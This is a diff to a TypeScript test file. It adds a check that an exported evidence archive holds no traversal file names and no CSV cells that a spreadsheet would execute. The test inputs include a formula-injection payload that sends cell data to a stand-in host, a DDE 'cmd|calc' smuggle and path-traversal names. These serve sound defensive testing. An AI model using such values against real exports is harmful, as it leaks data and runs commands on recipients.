@@ -1,4 +1,5 @@
 import { createHash } from 'node:crypto'
+import { parse } from 'csv-parse/sync'
 import { unzipSync } from 'fflate'
 import { beforeEach, expect, test } from 'vitest'
 import { evidenceTables } from '../contract/evidence-tables'
@@ -237,6 +238,26 @@ describeOneStore('the evidence of a period', (store) => {
       ['Admin', 'viewer'],
     ])
     expect(file('role_holders.json')).not.toContain('admin@')
+  })
+
+  test('holds no file but those that it lists, in no folder, and nothing that a spreadsheet would run', async () => {
+    const worst = '=HYPERLINK("https://evil.example/?"&A1,"../../etc/passwd")'
+    const { person } = await leaver(worst, '2026-10-10', null)
+    await leftEvent(person.id, instant('2026-10-12T00:00:00Z'))
+    for (const name of ['@SUM(1)', '+1', '-1+cmd|calc', '\t=1', '../../../outside.csv'])
+      await leftEvent((await leaver(name, '2026-10-11', null)).person.id, instant('2026-10-12T00:00:00Z'))
+    const files = unzipSync(await bytesOf((await close()).pack?.id))
+    for (const name of Object.keys(files)) expect(name).toMatch(/^\w+(\.(csv|json|txt))?$/)
+    expect(JSON.parse(Buffer.from(files['names.json'] ?? []).toString())).toContainEqual(
+      expect.objectContaining({ name: worst }),
+    )
+    for (const [name, bytes] of Object.entries(files).filter(([file]) => file.endsWith('.csv'))) {
+      const rows: string[][] = parse(Buffer.from(bytes).toString(), { bom: true, relax_column_count: true })
+      expect(
+        rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+        name,
+      ).toEqual([])
+    }
   })
 
   test('tells the settings in force, and each change since the period began with the last before it', async () => {
